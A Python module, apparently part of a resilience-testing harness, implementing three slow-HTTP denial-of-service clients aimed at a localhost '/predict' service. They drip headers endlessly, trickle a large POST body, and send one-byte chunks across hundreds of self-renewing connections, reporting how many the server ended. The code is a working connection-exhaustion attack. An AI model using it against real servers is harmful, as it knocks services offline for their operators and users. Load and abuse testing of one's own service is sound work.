"""Clients that send little by little: heads, bodies, and bodies in the smallest chunks there are."""

from __future__ import annotations

import contextlib
import socket
import time

from attacks.place import Place, Seen, send_some

CONNECTIONS = 600
HEAD = b"POST /predict HTTP/1.1\r\nHost: localhost\r\nContent-Type: image/png\r\n"


def heads(place: Place) -> Seen:
    """A header a second, and never the end of the head."""
    return _drip(place, b"GET / HTTP/1.1\r\nHost: localhost\r\n", b"X-More: and more\r\n", 1.0)


def bodies(place: Place) -> Seen:
    """Half a megabyte at once, which is held, and the rest a byte a second."""
    return _drip(place, HEAD + b"Content-Length: 1000000\r\n\r\n" + b"x" * 500_000, b"x", 1.0)


def chunks(place: Place) -> Seen:
    """As fast as they are taken: chunks of a byte each."""
    return _drip(place, HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n" * 2000, 0.0, most=64)


def _drip(place: Place, first: bytes, then: bytes, pause: float, most: int = CONNECTIONS) -> Seen:
    """Whoever is refused begins anew."""
    ended = 0
    with place.connections(place.of(most)) as links:
        begun = len(links)
        left: dict[socket.socket, bytes] = dict.fromkeys(links, first)
        while place.left:
            for link, data in list(left.items()):
                sent = send_some(link, data or then)
                if sent < 0:
                    del left[link]
                    ended += 1
                    link.close()
                    with contextlib.suppress(OSError):
                        links.append(place.connect(timeout=2.0))
                        links[-1].setblocking(False)
                        left[links[-1]] = first
                        begun += 1
                else:
                    left[link] = (data or then)[sent:]
            time.sleep(pause)
    return {"connections": begun, "ended by the server": ended}
